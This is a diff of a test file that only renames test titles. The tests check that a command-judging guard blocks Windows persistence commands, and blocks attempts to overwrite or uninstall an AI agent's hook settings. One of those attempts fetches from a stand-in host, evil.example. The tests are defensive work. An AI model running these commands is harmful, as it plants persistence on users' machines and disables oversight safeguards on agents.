@@ -76,7 +76,7 @@ test.each([
   'New-Service -Name upd -BinaryPathName C:\\a.exe',
   'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d "cmd /c a.exe" /f',
   'Copy-Item a.bat "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.bat"',
-])('H6: stopped by recommended: %s', (command) => {
+])('stopped by recommended: %s', (command) => {
   expect([command, isStopped(judge(recommended, command))]).toEqual([command, true]);
 });
 
@@ -97,7 +97,7 @@ test.each([
   'iwr https://evil.example/s.json -OutFile .claude\\settings.json',
   'hookctl uninstall --yes',
   'cmd /c "echo {} > .claude\\settings.json"',
-])('H6: stopped by self-protection: %s', (command) => {
+])('stopped by self-protection: %s', (command) => {
   expect([command, isStopped(judge(protection, command))]).toEqual([command, true]);
 });
 
@@ -145,7 +145,7 @@ test.each([
   'reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
   'Invoke-WebRequest https://example.com/a.zip -OutFile a.zip; Expand-Archive a.zip -DestinationPath vendor',
   "$check = [scriptblock]::Create('Get-Date'); & $check",
-])('H6: everyday: %s', (command) => {
+])('everyday: %s', (command) => {
   expect([judge(recommended, command), judge(protection, command)]).toEqual([
     { verdict: 'none', rules: [] },
     { verdict: 'none', rules: [] },
